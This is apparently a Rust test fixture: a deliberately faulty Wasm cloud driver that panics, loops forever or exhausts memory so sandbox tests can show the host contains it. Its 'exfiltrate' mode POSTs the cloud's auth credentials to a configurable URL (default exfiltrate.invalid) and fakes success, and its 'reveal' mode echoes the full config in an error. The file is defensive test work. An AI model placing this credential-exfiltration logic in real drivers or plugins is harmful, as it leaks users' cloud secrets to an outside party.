//! A fake driver implementing the real WIT, for sandbox tests (profile `faulty`).
//!
//! Each list function misbehaves in one way so tests can prove the host contains it:
//! - `list-servers` traps (a Rust panic aborts, which is a Wasm trap);
//! - `list-images` never returns (only the host's epoch deadline stops it);
//! - `list-flavors` allocates until the host's memory limit refuses to grow memory;
//! - `list-networks` returns an expected driver error (the well-behaved failure).
//!
//! The cloud's `faulty_mode` config key turns `list-networks` hostile instead:
//! - `exfiltrate`: POSTs the cloud's `auth` block (its credentials) to the URL in
//!   `faulty_exfiltrate_to`, ignores what the host answers and reports success with no
//!   networks, as a malicious driver would;
//! - `reveal`: fails with the whole config JSON it was given as the message, so a test can see
//!   exactly which secrets reached this instance.
//!
//! The get functions answer not-found, so a healthy call path exists too.

#![allow(clippy::panic)]

wit_bindgen::generate!({
    path: "../../wit",
    world: "cloud-driver",
});

use exports::oaktree::cloud::driver::Guest;
use oaktree::cloud::http::{Method, Request};
use oaktree::cloud::types::{
    CallContext, Capability, DriverInfo, Error, Flavor, FloatingIpModel, Image, Network, Server,
};

struct Faulty;

impl Guest for Faulty {
    fn describe() -> DriverInfo {
        DriverInfo {
            name: "faulty".into(),
            version: env!("CARGO_PKG_VERSION").into(),
            profiles: vec!["faulty".into()],
            capabilities: vec![
                Capability::ListImages,
                Capability::ListFlavors,
                Capability::ListServers,
                Capability::ListNetworks,
            ],
            image_disk_formats: vec![],
            floating_ips: FloatingIpModel::None,
            rate_limits: vec![],
        }
    }

    fn list_images(_ctx: CallContext) -> Result<Vec<Image>, Error> {
        let mut spins: u64 = 0;
        loop {
            spins = std::hint::black_box(spins.wrapping_add(1));
        }
    }

    fn get_image(_ctx: CallContext, id: String) -> Result<Image, Error> {
        Err(Error::NotFound(id))
    }

    fn list_flavors(_ctx: CallContext) -> Result<Vec<Flavor>, Error> {
        let mut hoard: Vec<Vec<u8>> = Vec::new();
        loop {
            hoard.push(vec![1; 16 << 20]);
            std::hint::black_box(&hoard);
        }
    }

    fn get_flavor(_ctx: CallContext, id: String) -> Result<Flavor, Error> {
        Err(Error::NotFound(id))
    }

    fn list_servers(ctx: CallContext) -> Result<Vec<Server>, Error> {
        panic!("faulty driver asked for servers in {}", ctx.cloud);
    }

    fn get_server(_ctx: CallContext, id: String) -> Result<Server, Error> {
        Err(Error::NotFound(id))
    }

    fn list_networks(ctx: CallContext) -> Result<Vec<Network>, Error> {
        let config: serde_json::Value = serde_json::from_str(&ctx.config).unwrap_or_default();
        match config.get("faulty_mode").and_then(|m| m.as_str()) {
            Some("exfiltrate") => {
                let to = config
                    .get("faulty_exfiltrate_to")
                    .and_then(|u| u.as_str())
                    .unwrap_or("http://exfiltrate.invalid/")
                    .to_owned();
                let loot = config.get("auth").cloned().unwrap_or_default().to_string();
                let _ignored = oaktree::cloud::http::send(&Request {
                    method: Method::Post,
                    url: to,
                    headers: vec![("content-type".into(), "application/json".into())],
                    body: Some(loot.into_bytes()),
                    service: "exfiltrate".into(),
                });
                return Ok(Vec::new());
            }
            Some("reveal") => return Err(Error::Other(format!("config: {}", ctx.config))),
            _ => {}
        }
        Err(Error::Unavailable(format!(
            "faulty driver reports {}/{} as down",
            ctx.cloud, ctx.region
        )))
    }

    fn get_network(_ctx: CallContext, id: String) -> Result<Network, Error> {
        Err(Error::NotFound(id))
    }

    // Writes: this driver offers none (its describe() declares no write capability).

    fn create_server(
        _ctx: CallContext,
        _spec: oaktree::cloud::types::ServerCreate,
    ) -> Result<oaktree::cloud::types::Server, Error> {
        Err(unsupported("create-server"))
    }

    fn delete_server(_ctx: CallContext, _id: String) -> Result<(), Error> {
        Err(unsupported("delete-server"))
    }

    fn list_floating_ips(
        _ctx: CallContext,
    ) -> Result<Vec<oaktree::cloud::types::FloatingIp>, Error> {
        Err(unsupported("list-floating-ips"))
    }

    fn get_floating_ip(
        _ctx: CallContext,
        _id: String,
    ) -> Result<oaktree::cloud::types::FloatingIp, Error> {
        Err(unsupported("get-floating-ip"))
    }

    fn create_floating_ip(
        _ctx: CallContext,
        _spec: oaktree::cloud::types::FloatingIpCreate,
    ) -> Result<oaktree::cloud::types::FloatingIp, Error> {
        Err(unsupported("create-floating-ip"))
    }

    fn attach_floating_ip(
        _ctx: CallContext,
        _id: String,
        _server_id: String,
    ) -> Result<oaktree::cloud::types::FloatingIp, Error> {
        Err(unsupported("attach-floating-ip"))
    }

    fn delete_floating_ip(_ctx: CallContext, _id: String) -> Result<(), Error> {
        Err(unsupported("delete-floating-ip"))
    }

    fn list_keypairs(_ctx: CallContext) -> Result<Vec<oaktree::cloud::types::Keypair>, Error> {
        Err(unsupported("list-keypairs"))
    }

    fn get_keypair(
        _ctx: CallContext,
        _name: String,
    ) -> Result<oaktree::cloud::types::Keypair, Error> {
        Err(unsupported("get-keypair"))
    }

    fn create_keypair(
        _ctx: CallContext,
        _spec: oaktree::cloud::types::KeypairCreate,
    ) -> Result<oaktree::cloud::types::Keypair, Error> {
        Err(unsupported("create-keypair"))
    }

    fn delete_keypair(_ctx: CallContext, _name: String) -> Result<(), Error> {
        Err(unsupported("delete-keypair"))
    }

    fn list_security_groups(
        _ctx: CallContext,
    ) -> Result<Vec<oaktree::cloud::types::SecurityGroup>, Error> {
        Err(unsupported("list-security-groups"))
    }

    fn get_security_group(
        _ctx: CallContext,
        _id: String,
    ) -> Result<oaktree::cloud::types::SecurityGroup, Error> {
        Err(unsupported("get-security-group"))
    }

    fn create_security_group(
        _ctx: CallContext,
        _spec: oaktree::cloud::types::SecurityGroupCreate,
    ) -> Result<oaktree::cloud::types::SecurityGroup, Error> {
        Err(unsupported("create-security-group"))
    }

    fn delete_security_group(_ctx: CallContext, _id: String) -> Result<(), Error> {
        Err(unsupported("delete-security-group"))
    }

    fn create_security_group_rule(
        _ctx: CallContext,
        _spec: oaktree::cloud::types::SecurityGroupRuleCreate,
    ) -> Result<oaktree::cloud::types::SecurityGroupRule, Error> {
        Err(unsupported("create-security-group-rule"))
    }

    fn delete_security_group_rule(_ctx: CallContext, _id: String) -> Result<(), Error> {
        Err(unsupported("delete-security-group-rule"))
    }

    fn list_subnets(_ctx: CallContext) -> Result<Vec<oaktree::cloud::types::Subnet>, Error> {
        Err(unsupported("list-subnets"))
    }

    fn get_subnet(_ctx: CallContext, _id: String) -> Result<oaktree::cloud::types::Subnet, Error> {
        Err(unsupported("get-subnet"))
    }

    fn create_subnet(
        _ctx: CallContext,
        _spec: oaktree::cloud::types::SubnetCreate,
    ) -> Result<oaktree::cloud::types::Subnet, Error> {
        Err(unsupported("create-subnet"))
    }

    fn delete_subnet(_ctx: CallContext, _id: String) -> Result<(), Error> {
        Err(unsupported("delete-subnet"))
    }

    fn list_volumes(_ctx: CallContext) -> Result<Vec<oaktree::cloud::types::Volume>, Error> {
        Err(unsupported("list-volumes"))
    }

    fn get_volume(_ctx: CallContext, _id: String) -> Result<oaktree::cloud::types::Volume, Error> {
        Err(unsupported("get-volume"))
    }

    fn create_volume(
        _ctx: CallContext,
        _spec: oaktree::cloud::types::VolumeCreate,
    ) -> Result<oaktree::cloud::types::Volume, Error> {
        Err(unsupported("create-volume"))
    }

    fn delete_volume(_ctx: CallContext, _id: String) -> Result<(), Error> {
        Err(unsupported("delete-volume"))
    }

    fn image_formats(_ctx: CallContext) -> Result<Vec<String>, Error> {
        Err(unsupported("image-formats"))
    }

    fn create_image(
        _ctx: CallContext,
        _spec: oaktree::cloud::types::ImageCreate,
        _data: &oaktree::cloud::blobs::Blob,
    ) -> Result<oaktree::cloud::types::Image, Error> {
        Err(unsupported("create-image"))
    }

    fn delete_image(_ctx: CallContext, _id: String) -> Result<(), Error> {
        Err(unsupported("delete-image"))
    }

    fn cleanup(_ctx: CallContext, _kind: String, _id: String) -> Result<(), Error> {
        Err(unsupported("cleanup"))
    }
}

#[cfg(target_arch = "wasm32")]
export!(Faulty);

/// The error of a function this driver does not offer.
fn unsupported(function: &str) -> Error {
    Error::Unsupported(format!("the faulty driver does not offer {function}"))
}
